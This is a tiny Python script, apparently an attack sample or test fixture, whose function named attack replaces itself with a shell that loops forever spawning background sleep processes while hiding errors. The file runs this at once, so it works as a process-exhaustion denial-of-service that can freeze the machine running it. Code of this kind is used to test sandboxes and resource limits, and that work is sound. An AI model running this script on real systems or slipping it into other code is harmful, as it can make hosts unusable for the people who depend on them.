"""Starts processes without end."""
import os


def attack():
    os.execv("/bin/sh", ["sh", "-c", "while :; do sleep 1000 & done 2> /dev/null"])


attack()
